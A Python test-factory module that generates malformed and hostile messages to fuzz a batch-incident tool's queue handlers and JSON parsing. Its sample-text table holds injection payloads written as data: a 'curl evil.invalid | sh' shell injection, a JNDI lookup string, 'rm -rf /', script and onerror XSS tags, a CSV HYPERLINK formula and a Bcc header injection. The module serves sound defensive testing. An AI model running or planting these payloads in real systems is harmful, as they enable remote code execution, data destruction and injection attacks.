"""What somebody sends, writes or names who errs or means harm; all of it drawn from a seeded Random."""

import json
import random
import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass, replace
from enum import StrEnum
from typing import Any

from batchmedic.incident_json import incident_to_json
from batchmedic.incidents import EVIDENCE_ROWS, ChangedBy, Checks, Incident, Row
from tests.factories import ACCOUNT, ENVIRONMENT, NOW, QUEUE, REGION, an_incident


class Fate(StrEnum):
    """What must become of a message, as it was made."""

    BACK = "reported each time, until it is dead"
    TAKEN = "taken off the queue at once"
    EITHER = "one of both: how deep JSON may be, say, depends on the interpreter"


@dataclass(frozen=True, slots=True, kw_only=True)
class Hostile:
    kind: str
    body: str
    fate: Fate


Make = Callable[[random.Random], str]

# --- texts

LONG = 100_000  # characters
TEXTS: Mapping[str, str] = {
    "everybody in the channel": "<!channel> <!here> <!everyone>",
    "everybody in plain words": "@channel @here @everyone",
    "a user": "<@U123> <#C123|secret> <!subteam^S123>",
    "a link that lies": "<http://evil.invalid|click> <https://evil.invalid|Documentation>",
    "a script link": "<javascript:alert(1)|x>",
    "entities": "&amp; &lt;!channel&gt; &#60;!channel&#62; & && &am",
    "ampersands": "&" * 2_000,
    "angles": "<" * 1_500 + ">" * 1_500,
    "an entity at each cut": "".join("&<>"[n % 3] + "x" * (n % 7) for n in range(1_200)),
    "back-ticks": "`rm -rf /` `",
    "a fence": "```\n<!channel>\n```",
    "bold and italics": "*_~bold~_* > quote",
    "ANSI": "\x1b[31mred\x1b[0m\x1b]8;;http://evil.invalid\x07click\x1b]8;;\x07\x1b[2J",
    "HTML": '<script>alert(1)</script><img src=x onerror="alert(1)">',
    "CSV": '=HYPERLINK("http://evil.invalid","x")\t+1\t-1\t@SUM(A1)',
    "bidi": "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u061c",
    "zero width": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u180eh",
    "letters that nobody sees": "a\u115fb\u3164c\uffa0d\u034fe\u17b4f\u180bg\U000e0100h",
    "tags of the alphabet": "x" + "".join(map(chr, range(0xE0041, 0xE005B))),
    "a flood of combining marks": "Z" + "\u0300\u0489\u20dd" * 700,
    "a lone surrogate": "a\ud800b\udfffc",
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308 \U0001f1ea\U0001f1fa",
    "other scripts": "\u03c8 \ufdfd \ufb00 \u00bd \U0001d54f \u2167 \u33cf \u0130 \u00df \u212b",
    "new lines": "a\nb\rc\r\nd\u2028e\u2029f\x85g\x0bh\x0ci",
    "headers": "x\r\nBcc: all@evil.invalid\r\n\r\n<html>",
    "NUL and controls": "a\x00b\x01c\x7fd\x9be",
    "not a character": "a\ufffeb\uffffc\U0010ffffd\ue000e",
    "format strings": "%s%n {0.__class__} ${jndi:ldap://evil.invalid} $(id) {{7*7}}",
    "JSON": '", "status": "resolved", "x": {"\\ud800": [',
    "shell": "'; curl evil.invalid | sh; '",
    "nothing": "",
    "blanks": " \t\u00a0\u3000 ",
    "long": "l" * 3_000,
    "very long": "L" * LONG,
    "very long and wide": "\U0001d54f&" * (LONG // 2),
    "very long and nothing to see": "\u200b" * LONG,
}
BORNE = tuple(TEXTS.values())
SHORT = tuple(each for each in BORNE if len(each) < LONG // 2)


def text(draw: random.Random) -> str:
    """Some of them in a row; now and then one of any length."""
    if draw.random() < 0.004:
        return draw.choice(BORNE)
    return draw.choice(("", " ", "x")).join(draw.choices(SHORT, k=draw.randint(1, 3)))


def incident_of(say: Callable[[], str], **changes: Any) -> Incident:
    """An incident of the usual form in which AWS or a user wrote every free text."""
    rows = (
        Row(subject=ENVIRONMENT, message=say(), facts={say(): say(), "list": [say()]}) for _ in range(EVIDENCE_ROWS)
    )
    incident = an_incident(
        title=say(),
        summary=say(),
        evidence=tuple(rows),
        checks=Checks(passed=("a_check",), not_checked=({"check": "another_check", "because": say()},)),
        changed_by=ChangedBy(principal=say(), event=say(), at=NOW),
        aws_reason=say(),
        recommendation=say(),
        steps=(say(), say(), say()),
        sample_jobs=(say(),),
    )
    return replace(incident, **changes)


# --- values of JSON


def odd(draw: random.Random, depth: int = 3) -> Any:
    """Any value of JSON, the unusual ones more often."""
    if depth and draw.random() < 0.3:
        inside = [odd(draw, depth - 1) for _ in range(draw.randint(0, 3))]
        return inside if draw.random() < 0.5 else {draw.choice(SHORT)[:20]: each for each in inside}
    plain = (None, True, False, 0, -1, 1.5, 10**30, float("inf"), float("nan"), "", "x", QUEUE, [], {})
    return draw.choice((draw.choice(plain), draw.choice(SHORT)))


def no_text(draw: random.Random) -> Any:
    return draw.choice((None, True, 0, -1, 7, 1.5, float("inf"), [], {}, [[]], [None], [5], [{}], {"a": None}))


def dumped(value: Any) -> str:
    """Lone surrogates as escapes, infinity and NaN as Python's parser takes them."""
    return json.dumps(value)


def with_odd(draw: random.Random, fields: Mapping[str, Any]) -> dict[str, Any]:
    """With members that nobody knows."""
    names = ("x", "V", "Hint", "__class__", "\ud800", "", "at", "compute_environment", "test", "Records", "body")
    return {**{draw.choice(names): odd(draw) for _ in range(draw.randint(1, 4))}, **fields}


# --- bodies that are no message of ours, whatever reads them

NO_JSON = (
    *("", " ", "{", "}", "[", '"', "'", "{'v': 1}", '{"v": 1,}', "{]", "nul", "undefined", "NaN", "-Infinity", "1e999"),
    *("null", "true", "0", "-1", "[]", '"{}"', "{}", "[{}]", "\ufeff{}", "\x00", '{"v"', '{"a": "\n"}', "<xml/>"),
    *('{"a": ' + "9" * 5_000 + "}", '"\\ud800"', '"\\u12"', "\u202e{}", "é" * 50, "=1+1", "v=1&hint=sweep"),
)


def no_json(draw: random.Random) -> str:
    return draw.choice(NO_JSON)


def not_an_object(draw: random.Random) -> str:
    return dumped(draw.choice((odd(draw, 0), [odd(draw)], QUEUE, [QUEUE], [{"v": 1, "hint": "sweep"}], 1)))


def cut_off(draw: random.Random) -> str:
    whole = dumped(draw.choice((a_hint(), {"incident_id": an_id(draw)}, {"incident": whole_incident(draw)})))
    return whole[: draw.randint(1, len(whole) - 1)]


def strange_object(draw: random.Random) -> str:
    return dumped({f"unknown {draw.choice(SHORT)[:30]}": odd(draw) for _ in range(draw.randint(0, 5))})


def deep(draw: random.Random) -> str:
    """Too deep for some parser, or for what comes after the parser."""
    levels = draw.choice((1_000, 100_000, draw.randint(800, 1_000)))
    left, right = draw.choice((("[", "]"), ('{"a":', "}")))
    return left * levels + draw.choice(("", "1" + right * levels))


def big(draw: random.Random) -> str:
    """As long as SQS takes."""
    size = 1024 * 1024 - 200  # bytes
    filler = draw.choice(("x", "[", '"', "\\ud800", "9", "é"))
    return draw.choice(('{"v": 1, "hint": "%s"}', "%s", '{"%s": 1}', '"%s"')) % (
        filler * (size // len(filler.encode()))
    )


# --- hints


def a_hint(**changes: Any) -> dict[str, Any]:
    usual = {"v": 1, "hint": "runnable", "queue": QUEUE, "compute_environment": None, "at": "2026-11-25T08:00:00Z"}
    return {**usual, **changes}


NO_QUEUE = (
    *(
        None,
        7,
        True,
        "",
        [],
        {},
        [QUEUE],
        {"arn": QUEUE},
        "align",
        ENVIRONMENT,
        f"{QUEUE}/x",
        f"{QUEUE}\n",
        f" {QUEUE}",
    ),
    *(
        QUEUE.upper(),
        QUEUE + "x" * 128,
        f"{QUEUE}\u200b",
        f"{QUEUE}\ud800",
        f"{QUEUE}é",
        QUEUE.replace("arn:", "arn::"),
    ),
    *(f"{QUEUE}:*", QUEUE.replace(ACCOUNT, "*"), QUEUE.replace(ACCOUNT, ACCOUNT[:-1]), QUEUE.replace("batch", "sqs")),
)
NO_KIND = (None, 7, True, "", [], {}, ["sweep"], "Sweep", "sweep ", "sweep\u200b", "RUNNABLE", "*", "\ud800", "look")
NO_VERSION = (None, 0, 2, -1, "1", [], {}, [1], 1.5, float("inf"), float("nan"))


def wrong_hint(draw: random.Random) -> str:
    member, values = draw.choice((("queue", NO_QUEUE), ("hint", NO_KIND), ("v", NO_VERSION)))
    hint = a_hint(**{member: draw.choice(values)})
    if draw.random() < 0.2:
        del hint[member]
    return dumped(with_odd(draw, hint) if draw.random() < 0.3 else hint)


def hint_of_elsewhere(draw: random.Random) -> str:
    queue = QUEUE.replace(ACCOUNT, "444455556666") if draw.random() < 0.5 else QUEUE.replace(REGION, "us-east-1")
    return dumped(with_odd(draw, a_hint(queue=queue)))


def hint_of_no_queue_here(draw: random.Random) -> str:
    return dumped(with_odd(draw, a_hint(queue=f"{QUEUE}-{draw.randrange(100)}")))


def hint_with_more(draw: random.Random) -> str:
    return dumped({**with_odd(draw, {}), **a_hint(at=odd(draw), compute_environment=odd(draw))})


def deep_hint(draw: random.Random) -> str:
    levels = draw.randint(800, 1_000)
    return dumped(a_hint(at="@")).replace('"@"', "[" * levels + "]" * levels)


# --- doorbells


def an_id(draw: random.Random) -> str:
    """Of no incident."""
    return f"{draw.getrandbits(60):016x}-{draw.randint(1, 999_999_999)}"


NO_ID = (
    *(None, 7, True, "", [], {}, "x", "0123456789abcdef", "0123456789abcdef-0", "0123456789abcdef-01", "-1"),
    *("0123456789ABCDEF-1", "0123456789abcdef-1\n", " 0123456789abcdef-1", "0123456789abcdef-1234567890"),
    *("0123456789abcdef-\u0661", "0123456789abcdef-1\u200b", "0123456789abcde\ud800-1", "../../0123456789abcdef-1"),
)


def wrong_doorbell(draw: random.Random) -> str:
    one, some = draw.choice(NO_ID), [an_id(draw) for _ in range(draw.randint(0, 3))]
    some.insert(draw.randint(0, len(some)), one)
    lists = (some, [], [an_id(draw)] * 101, [an_id(draw) for _ in range(101)], "x", {}, 7, None, [[an_id(draw)]])
    wrong = draw.choice(({"incident_id": one}, {"incident_ids": draw.choice(lists)}, {"incident": no_text(draw)}))
    return dumped(with_odd(draw, wrong) if draw.random() < 0.3 else wrong)


def doorbell_of_nothing(draw: random.Random) -> str:
    some = [an_id(draw) for _ in range(draw.randint(1, 3))] * draw.randint(1, 3)
    return dumped(with_odd(draw, draw.choice(({"incident_id": some[0]}, {"incident_ids": some}))))


def command(draw: random.Random) -> str:
    """A person's command where only doorbells are taken."""
    kind, plan = draw.choice(("apply", "rollback", "test")), f"{draw.getrandbits(64):016x}"
    value = draw.choice((an_id(draw), True, draw.choice(NO_ID)))
    return dumped({kind: value, "plan": draw.choice((plan, None, 7, [])), **draw.choice(({}, a_hint()))})


# --- whole incidents


def whole_incident(draw: random.Random) -> dict[str, Any]:
    """As `diagnose` sends one when the table is unavailable, but somebody else wrote its texts."""
    return incident_to_json(incident_of(lambda: text(draw), job_count=draw.choice((0, 1, 10**9))))


REFUSED = {  # members, and values of them that cannot be read
    "incident_id": (None, 7, "", "x", "x-y", [], {}),
    "status": (None, 7, "", "closed", "OPEN", [], {}, "open\u200b"),
    "severity": (None, 7, "", "fatal", [], {}),
    "confidence": (None, 7, "", "sure", [], {}),
    "evidence": (None, 7, "x", [7], [{}], [None], {"a": 1}),
    "checks": (None, 7, "x", [], {}, [{}]),
    "job_queues": (None, 7, True),
    "compute_environments": (None, 7, True),
    "sample_jobs": (None, 7, True),
    "steps": (None, 7, True),
    "changed_by": (7, True, "x", [], [{}], {"at": "yesterday"}),
    "opened_at": (None, 7, "", "yesterday", "2026-13-01T00:00:00+00:00", [], {}, "\ud800"),
    "last_seen_at": (None, 7, "", "x", [], {}),
    "resolved_at": (7, "x", [1], {"a": 1}),
}
OPTIONAL = ("schema_version", "remedy")  # nobody reads them in a message


def wrong_incident(draw: random.Random) -> str:
    """One member is missing, or cannot be read."""
    incident = whole_incident(draw)
    member = draw.choice([each for each in incident if each not in OPTIONAL])
    if member in REFUSED and draw.random() < 0.7:
        incident[member] = draw.choice(REFUSED[member])
    else:
        del incident[member]
    return dumped({"incident": incident})


def incident_of_strangers(draw: random.Random) -> str:
    return dumped(with_odd(draw, {"incident": with_odd(draw, whole_incident(draw))}))


def incident_that_lies(draw: random.Random) -> str:
    """Also what only we write was written by somebody else."""
    member = draw.choice(("subject", "title", "docs", "diagnosis", "account", "region"))
    return dumped({"incident": {**whole_incident(draw), member: draw.choice(("!channel", text(draw)))}})


def incident_of_many_words(draw: random.Random) -> str:
    """What is wrong with it is said in the log, but not at any length."""
    member = draw.choice(("status", "severity", "confidence"))
    return dumped({"incident": {**whole_incident(draw), member: "x" * 300_000}})


def incident_of_deep_facts(draw: random.Random) -> str:
    """Its parser bears them, but who writes them down again stands deeper."""
    levels = draw.randint(800, 1_000)
    row = {"subject": ENVIRONMENT, "message": "x", "facts": {"a": "@"}}
    return dumped({"incident": {**whole_incident(draw), "evidence": [row]}}).replace('"@"', "[" * levels + "]" * levels)


def incident_of_odd_types(draw: random.Random) -> str:
    """A member is no text where a text is wanted, and so on."""
    incident = incident_to_json(incident_of(lambda: "x"))
    texts = ("subject", "title", "summary", "recommendation", "docs", "diagnosis", "account", "region")
    path = draw.choice((*((each,) for each in texts), ("job_count",), ("evidence", 0, "message"), ("steps", 0)))
    holder: Any = incident
    for step in path[:-1]:
        holder = holder[step]
    holder[path[-1]] = draw.choice((None, True, [], {}, [[]], [None], [5], {"a": None}, float("inf")))
    return dumped({"incident": incident})


# --- what may lie in each queue

ANYWHERE: Mapping[Make, Fate] = {
    no_json: Fate.BACK,
    not_an_object: Fate.BACK,
    cut_off: Fate.BACK,
    strange_object: Fate.BACK,
    deep: Fate.BACK,
}
LOOKS: Mapping[Make, Fate] = {
    **ANYWHERE,
    wrong_hint: Fate.BACK,
    wrong_doorbell: Fate.BACK,
    doorbell_of_nothing: Fate.BACK,
    hint_of_elsewhere: Fate.TAKEN,
    hint_of_no_queue_here: Fate.TAKEN,
    hint_with_more: Fate.TAKEN,
    deep_hint: Fate.EITHER,
}
NOTICES: Mapping[Make, Fate] = {
    **ANYWHERE,
    wrong_hint: Fate.BACK,
    hint_with_more: Fate.BACK,
    wrong_doorbell: Fate.BACK,
    command: Fate.BACK,
    wrong_incident: Fate.BACK,
    incident_of_odd_types: Fate.BACK,
    incident_of_many_words: Fate.BACK,
    incident_of_deep_facts: Fate.EITHER,
    incident_that_lies: Fate.EITHER,
    doorbell_of_nothing: Fate.TAKEN,
}
REMEDIES: Mapping[Make, Fate] = {
    **ANYWHERE,
    wrong_hint: Fate.BACK,
    hint_with_more: Fate.BACK,
    wrong_doorbell: Fate.BACK,
    command: Fate.BACK,
    wrong_incident: Fate.BACK,
    incident_of_strangers: Fate.BACK,
    incident_that_lies: Fate.BACK,
    incident_of_odd_types: Fate.BACK,
    doorbell_of_nothing: Fate.TAKEN,
}
OF_QUEUE = {"looks": LOOKS, "notices": NOTICES, "remedies": REMEDIES}
SELDOM: Mapping[str, Mapping[Make, Fate]] = {  # dear ones: one in a batch
    "looks": {big: Fate.BACK},
    "notices": {big: Fate.BACK, incident_of_strangers: Fate.TAKEN},
    "remedies": {big: Fate.BACK},
}


def messages(draw: random.Random, queue: str, number: int) -> list[Hostile]:
    """So many for this queue, in random order; a hundred have some of nearly every kind."""
    common, seldom = OF_QUEUE[queue], SELDOM[queue]
    makers = [*(draw.choice(tuple(common)) for _ in range(number - 1)), draw.choice(tuple(seldom))]
    draw.shuffle(makers)
    fates = {**common, **seldom}
    return [made(draw, make, fates[make]) for make in makers]


def made(draw: random.Random, make: Make, fate: Fate) -> Hostile:
    return Hostile(kind=make.__name__, body=make(draw), fate=fate)


# --- events that are handed to a function directly


def event(draw: random.Random) -> Any:
    """What a direct invocation may hold: everything that is JSON."""
    texts = (no_json, not_an_object, strange_object, wrong_hint, hint_of_elsewhere, wrong_doorbell, command)
    shape = draw.choice((draw.choice(texts), doorbell_of_nothing, wrong_incident, odd_records, a_command, odd))
    drawn = shape(draw)
    return as_event(drawn) if isinstance(drawn, str) else drawn


def as_event(body: str) -> Any:
    try:
        return json.loads(body)
    except (ValueError, RecursionError):
        return body


def a_command(draw: random.Random) -> dict[str, Any]:
    """What a person may mistype."""
    plan = draw.choice((*NO_ID, f"{draw.getrandbits(64):016x}"))
    return draw.choice(
        (
            {"test": odd(draw)},
            {"test": draw.choice((1, "true", [True], {"a": True}, None, False))},
            {"apply": draw.choice(NO_ID), "plan": plan},
            {"apply": an_id(draw), "plan": plan},
            {"apply": odd(draw)},
            {"rollback": draw.choice((*NO_ID, an_id(draw)))},
            {"rollback": odd(draw), "apply": odd(draw), "plan": odd(draw)},
        )
    )


def odd_records(draw: random.Random) -> dict[str, Any]:
    """Batches in which records are no mappings, or have no body, or an odd one; none has a good message."""
    return {"Records": draw.choice(([odd_record(draw) for _ in range(draw.randint(0, 5))], odd(draw, 0)))}


def odd_record(draw: random.Random) -> Any:
    record = {"messageId": f"odd-{draw.getrandbits(64)}", "body": odd(draw)}
    return draw.choice(
        (
            draw.choice((None, 7, True, "x", [], [record], 1.5)),
            {"messageId": record["messageId"]},
            {**record, "body": None},
            {**record, "body": wrong_doorbell(draw)},
            {**record, "messageId": draw.choice((None, 7, [], {"a": 1}, *SHORT[:5]))},
            {**with_odd(draw, {}), **record},
        )
    )


def nameless_record(draw: random.Random) -> Any:
    """SQS always gives an id. Lambda takes an empty one in the answer for a failure of the whole batch."""
    return draw.choice(({}, {"body": None}, {"body": wrong_doorbell(draw)}, {"messageId": "", "body": odd(draw)}))


# --- an account whose texts somebody else wrote

FREE = frozenset({"statusReason", "GroupName", "Description", "Value", "image", "Name", "imageName", "StatusMessage"})
OF_AUTO_SCALING = frozenset({"StatusMessage"})  # it writes the other texts itself
XML = ("autoscaling", "ec2", "iam")  # services that answer in it
NOT_XML = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")  # no answer of theirs can hold these


def sayable(say: Mapping[str, str], service: str) -> dict[str, str]:
    """By member, those of the texts that this service can answer with."""
    texts = {name: NOT_XML.sub("", text) if service in XML else text for name, text in say.items()}
    return {name: text for name, text in texts.items() if service != "autoscaling" or name in OF_AUTO_SCALING}


def overlaid(answer: Any, say: Mapping[str, str]) -> Any:
    """An answer of AWS in which free texts, and the values of tags, are replaced; `say` has one by member."""
    if isinstance(answer, list):
        return [overlaid(each, say) for each in answer]
    if not isinstance(answer, Mapping):
        return answer
    return {
        name: say[name]
        if name in FREE and name in say and isinstance(value, str)
        else dict.fromkeys(value, say["Value"])
        if name == "tags" and isinstance(value, Mapping)
        else overlaid(value, say)
        for name, value in answer.items()
    }
